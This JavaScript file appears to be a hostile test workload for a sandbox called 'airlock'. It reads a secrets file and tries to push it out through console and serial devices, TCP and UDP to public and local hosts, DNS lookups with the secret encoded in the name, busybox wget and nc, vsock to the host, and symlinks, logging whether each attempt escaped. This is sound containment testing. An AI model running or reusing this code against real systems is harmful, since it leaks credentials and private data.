// A hostile workload. It reads the secret and tries to get it out by every channel it can reach,
// logging each attempt and its outcome to /data/out/attempts/attempts.json. It knows nothing of
// airlock beyond the paths its room gives it.
import { createRequire } from "node:module";
import dgram from "node:dgram";
import dns from "node:dns/promises";
import fs from "node:fs";
import net from "node:net";
import { execFileSync } from "node:child_process";

const secret = fs.readFileSync("/data/in/secrets.txt", "utf8");
const attempts = [];
// Written after every attempt, so the log survives the workload being killed at its time limit.
const log = (way, target, escaped, outcome) => {
  attempts.push({ way, target, escaped, outcome: String(outcome).slice(0, 300) });
  fs.writeFileSync("/data/out/attempts/attempts.json", `${JSON.stringify({ attempts }, null, 1)}\n`);
};
const bounded = (p, ms, what) => Promise.race([p, new Promise((_, rej) => setTimeout(() => rej(new Error(`${what}: no answer within ${ms} ms`)), ms))]);

// 1. The console, the kernel log, the serial ports.
for (const dev of ["/dev/console", "/dev/ttyS0", "/dev/ttyS1", "/dev/hvc0", "/dev/kmsg", "/dev/tty0", "/dev/mem"]) {
  try {
    fs.writeFileSync(dev, `${secret}\n`);
    log("console", dev, true, "written");
  } catch (err) {
    log("console", dev, false, err.code ?? err.message);
  }
}
// stdout and stderr: the room treats them as an output (secure mode), never the host's console.
console.log(`stdout: ${secret}`);
console.error(`stderr: ${secret}`);
log("stdout/stderr", "console output", false, "captured by the agent as an output");

// 2. Any network.
let ifaces = [];
try {
  ifaces = fs.readdirSync("/sys/class/net");
} catch (err) {
  ifaces = [`(${err.code})`];
}
log("network", "interfaces", ifaces.some((i) => i !== "lo"), `interfaces: ${ifaces.join(",") || "none"}`);
for (const [host, port] of [["10.0.2.2", 80], ["10.0.2.3", 53], ["8.8.8.8", 53], ["1.1.1.1", 443], ["192.168.1.1", 80], ["::1", 22], ["127.0.0.1", 80]]) {
  try {
    await bounded(
      new Promise((resolve, reject) => {
        const s = net.connect({ host, port }, () => {
          s.end(secret);
          resolve();
        });
        s.on("error", reject);
      }),
      5000,
      `tcp ${host}:${port}`,
    );
    log("tcp", `${host}:${port}`, true, "connected and sent");
  } catch (err) {
    log("tcp", `${host}:${port}`, false, err.code ?? err.message);
  }
}
try {
  const sock = dgram.createSocket("udp4");
  await bounded(new Promise((resolve, reject) => sock.send(secret, 53, "8.8.8.8", (err) => (err ? reject(err) : resolve()))), 5000, "udp");
  sock.close();
  log("udp", "8.8.8.8:53", true, "sent");
} catch (err) {
  log("udp", "8.8.8.8:53", false, err.code ?? err.message);
}
try {
  const r = await bounded(dns.lookup(`${Buffer.from(secret.slice(0, 20)).toString("hex")}.example.com`), 5000, "dns");
  log("dns", "lookup", true, JSON.stringify(r));
} catch (err) {
  log("dns", "lookup", false, err.code ?? err.message);
}
for (const args of [["wget", "-q", "-T", "3", "-O-", "http://10.0.2.2/"], ["nc", "-w", "3", "10.0.2.2", "80"]]) {
  try {
    execFileSync("/bin/busybox", args, { input: secret, timeout: 8000, stdio: ["pipe", "ignore", "pipe"] });
    log("busybox", args.join(" "), true, "exit 0");
  } catch (err) {
    log("busybox", args.join(" "), false, (err.stderr?.toString() || err.message).trim().split("\n")[0]);
  }
}

// 3. vsock: the host (CID 2), the firewall (CID 3) on every port it might serve, other guests.
const require = createRequire("/opt/airlock/node_modules/");
let VsockSocket;
try {
  ({ VsockSocket } = require("node-vsock-linux-x64-gnu"));
} catch (err) {
  log("vsock", "node-vsock", false, `cannot load: ${err.message}`);
}
const vsockTry = (cid, port) =>
  new Promise((resolve) => {
    let done = false;
    let connected = false;
    let sock;
    const finish = (escaped, outcome) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      try {
        sock.close();
      } catch {
        // closed already
      }
      resolve({ escaped, outcome });
    };
    const timer = setTimeout(() => finish(false, connected ? "connected, then no answer: the peer does not read it" : "no answer within 4 s"), 4000);
    sock = new VsockSocket((err, name, ...args) => {
      if (err) return finish(false, err.message);
      if (name === "_connect") {
        connected = true;
        sock.startRecv();
        try {
          sock.writeBuffer(Buffer.from(`${secret}\n`));
        } catch (e) {
          finish(false, `connected, write failed: ${e.message}`);
        }
      } else if (name === "_error") finish(false, String(args[0]?.message ?? args[0]));
      else if (name === "_end" || name === "_close" || name === "close" || name === "end") finish(false, connected ? "connected, then closed by the peer" : "closed");
      else if (name === "_data" || name === "data") finish(true, "the peer answered");
    });
    sock.setMaxConnectionAttempts(1);
    sock.connect(cid, port);
  });
if (VsockSocket) {
  for (const [cid, port] of [[2, 1024], [2, 1025], [2, 1026], [2, 22], [3, 5000], [3, 1024], [3, 1025], [3, 22], [5, 1234], [4, 5000], [1, 1024], [0xffffffff, 1024]]) {
    const r = await vsockTry(cid, port);
    log("vsock", `${cid}:${port}`, r.escaped, r.outcome);
  }
}

// 4. A huge output (over its 1 MiB limit).
try {
  const big = Buffer.alloc(8 * 1024 * 1024, secret);
  fs.writeFileSync("/data/out/dump/everything.bin", big);
  log("huge output", "dump/everything.bin (8 MiB)", false, "written inside; the room's size limit decides");
} catch (err) {
  log("huge output", "dump", false, err.code ?? err.message);
}

// 5. Files outside the output folders.
for (const f of ["/tmp/stash.txt", "/data/stash.txt", "/data/in/secrets.txt", "/workload/stash.txt", "/stash.txt", "/data/out/stash.txt"]) {
  try {
    fs.writeFileSync(f, secret, { flag: "a" });
    log("file outside outputs", f, false, "written inside the sandbox (never shipped)");
  } catch (err) {
    log("file outside outputs", f, false, err.code ?? err.message);
  }
}
try {
  fs.symlinkSync("/data/in/secrets.txt", "/data/out/leak/secrets-link.txt");
  log("symlink in an output", "leak/secrets-link.txt", false, "created inside; the agent ships regular files only");
} catch (err) {
  log("symlink in an output", "leak", false, err.code ?? err.message);
}

// 6. The private data through an open-mode output.
fs.writeFileSync("/data/out/leak/leak.txt", `${secret}\n`);
log("open output", "leak/leak.txt", false, "written; the room withholds it (USER_PRIVATE above open's ceiling)");

console.log(`tried ${attempts.length} ways out`);
// Native vsock handles keep the event loop alive: leave now.
process.exit(0);
